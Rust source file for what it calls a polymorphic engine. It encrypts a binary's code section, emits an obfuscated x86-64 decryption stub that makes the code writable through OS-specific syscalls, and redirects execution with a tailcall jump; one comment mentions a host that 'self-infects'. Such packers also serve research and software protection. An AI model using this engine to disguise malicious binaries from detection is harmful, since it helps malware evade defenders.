//! Polymorphic Engine (spec components C10, C11): orchestrates secret
//! generation, stub code emission, and stub finalization/relocation.
//!
//! Grounded on `include/engine/engine.hpp` / `src/engine.cpp`. Per-OS
//! specialization (spec.md §4.3) is isolated to the "make text writable"
//! syscall sequence, one module per host: [`linux`], [`macos`], [`windows`].

pub mod linux;
pub mod macos;
pub mod windows;

use iced_x86::{Code, Instruction, MemoryOperand, Register};

use crate::cipher::{emit as cipher_emit, Cipher, Secret};
use crate::editor::BinaryEditor;
use crate::emitter::asm::{Assembler, Label};
use crate::emitter::obfuscate::{self, obfuscate_instruction};
use crate::emitter::tree::{Op, Operand};
use crate::emitter::RawCode;
use crate::error::{CipherError, EmitterError, Error};
use crate::host::{Address, PAGE_SIZE};
use crate::rng::Rng;

/// A RawCode plus the virtual address it will live at once injected
/// (spec.md §3 "Stub artifact").
#[derive(Debug, Clone)]
pub struct Stub {
    pub code: RawCode,
    pub va: Address,
}

/// Everything a per-OS "make text writable" pass needs; `virtual_protect_va`
/// is meaningful only to [`windows::emit_make_writable`] (0 elsewhere).
pub struct MakeWritableContext {
    pub text_va: Address,
    pub text_len: u64,
    pub exit_label: Label,
    pub virtual_protect_va: Address,
}

pub trait MakeWritablePass {
    fn emit(asm: &mut Assembler, ctx: &MakeWritableContext);
}

/// `generate_code(secret)` (spec.md §4.3):
/// 1. function prologue,
/// 2. the OS-specific make-writable syscall (`M::emit`),
/// 3. RIP-relative load of the text VA into a fresh register,
/// 4. the emitted decryption loop ([`cipher_emit::assemble_decryption`]),
/// 5. bind `exit_label`, function epilogue.
///
/// The returned assembler has not yet had [`crate::emitter::obfuscate`]'s
/// passes or [`finalize_stub`]'s tailcall rewrite applied.
pub fn generate_code<M: MakeWritablePass, const N: usize>(
    secret: &Secret<N>,
    text_va: Address,
    text_len: u64,
    virtual_protect_va: Address,
) -> Result<Assembler, CipherError> {
    let mut asm = Assembler::new_x64();
    let exit_label = asm.create_label();

    asm.push(Instruction::with1(Code::Push_r64, Register::RBP).expect("push rbp"));
    asm.push(Instruction::with_reg_reg(Code::Mov_r64_rm64, Register::RBP, Register::RSP).expect("mov rbp,rsp"));

    let ctx = MakeWritableContext { text_va, text_len, exit_label, virtual_protect_va };
    M::emit(&mut asm, &ctx);

    let data_ptr = Register::RBX;
    asm.allocator.mark_as_untouchable(data_ptr);
    asm.push(
        Instruction::with_reg_mem(Code::Lea_r64_m, data_ptr, MemoryOperand::with_base_displ(Register::RIP, text_va as i64))
            .expect("lea reg,[rip+text_va]"),
    );

    cipher_emit::assemble_decryption(secret, &mut asm, data_ptr, text_len, exit_label)?;

    let bound = asm.bind_label(exit_label, Instruction::with_reg_reg(Code::Mov_r64_rm64, Register::RSP, Register::RBP).expect("mov rsp,rbp"));
    asm.push(bound);
    asm.push(Instruction::with1(Code::Pop_r64, Register::RBP).expect("pop rbp"));
    asm.push(Instruction::with(Code::Retnq));

    Ok(asm)
}

fn code_to_op(code: Code) -> Option<Op> {
    match code {
        Code::And_rm32_r32 | Code::And_rm32_imm32 => Some(Op::And),
        Code::Or_rm32_r32 | Code::Or_rm32_imm32 => Some(Op::Or),
        Code::Xor_rm32_r32 | Code::Xor_rm32_imm32 => Some(Op::Xor),
        Code::Add_rm32_r32 | Code::Add_rm32_imm32 => Some(Op::Sum),
        Code::Sub_rm32_r32 | Code::Sub_rm32_imm32 => Some(Op::Subtract),
        Code::Not_rm32 => Some(Op::Not),
        _ => None,
    }
}

/// `FuncObfPass` then `NopPass` (spec.md §4.4), applied over the
/// instructions [`generate_code`] produced: every recognized 32-bit GP
/// register destination `not/and/or/xor/add/sub` is rewritten through
/// [`obfuscate_instruction`]; everything else (the syscall sequence, the
/// `lea`, the decryption loop's 64-bit forms) is left untouched, since it
/// falls outside the mnemonic/width set `FuncObfPass` recognizes.
pub fn obfuscate_stub(asm: &mut Assembler, rng: &mut Rng) {
    let original: Vec<Instruction> = asm.instructions.drain(..).collect();
    for instr in original {
        let Some(op) = code_to_op(instr.code()) else {
            asm.push(instr);
            continue;
        };
        if op == Op::Not {
            let dest = Operand::Reg(instr.op0_register());
            obfuscate_instruction(asm, op, dest, dest, rng);
            continue;
        }
        let dest = Operand::Reg(instr.op0_register());
        let src = if instr.op1_kind() == iced_x86::OpKind::Immediate32 {
            Operand::Imm(instr.immediate32() as i64)
        } else {
            Operand::Reg(instr.op1_register())
        };
        obfuscate_instruction(asm, op, dest, src, rng);
    }
    obfuscate::nop_pass(asm, rng);
}

/// `encrypt_code(secret)` (spec.md §4.3): reads the text section's current
/// runtime bytes, CBC-XOR encrypts them into a fresh buffer, writes the
/// buffer back via `update_text_section_content`. Assumes the editor is
/// parsing the binary that's running — used when a host self-infects
/// during execution, per spec.md §4.3.
pub fn encrypt_code<E: BinaryEditor, const N: usize>(editor: &mut E, secret: &Secret<N>) -> Result<(), Error> {
    let text = editor.text_section_content().to_vec();
    let mut out = vec![0u8; text.len()];
    match Cipher::<N>::encrypt(&text, &mut out, secret) {
        Ok(()) => {}
        Err(CipherError::NotAligned { .. }) => {
            // aligned prefix still encrypted; the tail, copied verbatim by
            // `Cipher::encrypt`, round-trips through the decryption loop's
            // own alignment guard rejecting the call before emitting
            // anything, so this is only reachable for a host whose text
            // section size the caller failed to align at build time.
            return Err(Error::Cipher(CipherError::NotAligned { len: text.len(), block_size: N }));
        }
    }
    editor.update_text_section_content(&out).map_err(Error::Editor)
}

/// `produce_raw(base_va, jump_va)` (spec.md §4.3): installs `RetToJmpPass`
/// (spec.md §9 Open Question 2 — this crate converts the stub's trailing
/// `ret` into an immediate `jmp jump_va`, variant A, rather than emitting a
/// separate `jmp` and deleting the `ret`, since both produce an identical
/// tailcall and variant A needs no extra bookkeeping about which
/// instruction was "the trailing ret"), then relocates the block to
/// `base_va` and returns the flat bytes.
pub fn produce_raw(asm: &mut Assembler, base_va: Address, jump_va: Address) -> Result<Stub, EmitterError> {
    if let Some(last) = asm.instructions.last_mut() {
        if last.code() == Code::Retnq {
            *last = Instruction::with_branch(Code::Jmp_rel32_64, jump_va).map_err(|e| EmitterError::Encoding(e.to_string()))?;
        }
    }
    let code = asm.produce_raw(base_va)?;
    Ok(Stub { code: RawCode(code), va: base_va })
}

pub(crate) fn align_len_for_mprotect(va: Address, len: u64) -> (Address, u64) {
    let (aligned, new_len) = crate::host::align_to_page_size(va, len);
    debug_assert_eq!(aligned % PAGE_SIZE, 0);
    (aligned, new_len)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cipher::Block;
    use crate::engine::linux::LinuxMakeWritable;

    fn secret() -> Secret<8> {
        Secret { iv: Block::zero(), key: Block::zero() }
    }

    #[test]
    fn generate_code_emits_a_nonempty_instruction_stream() {
        let asm = generate_code::<LinuxMakeWritable, 8>(&secret(), 0x401000, 64, 0).unwrap();
        assert!(!asm.instructions.is_empty());
        assert_eq!(asm.instructions.last().unwrap().code(), Code::Retnq);
    }

    #[test]
    fn generate_code_rejects_misaligned_text_length() {
        let err = generate_code::<LinuxMakeWritable, 8>(&secret(), 0x401000, 65, 0).unwrap_err();
        assert!(matches!(err, CipherError::NotAligned { len: 65, block_size: 8 }));
    }

    #[test]
    fn produce_raw_replaces_trailing_ret_with_jmp() {
        let mut asm = generate_code::<LinuxMakeWritable, 8>(&secret(), 0x401000, 64, 0).unwrap();
        let stub = produce_raw(&mut asm, 0x500000, 0x401000).unwrap();
        assert_eq!(stub.va, 0x500000);
        assert!(!stub.code.is_empty());
    }
}
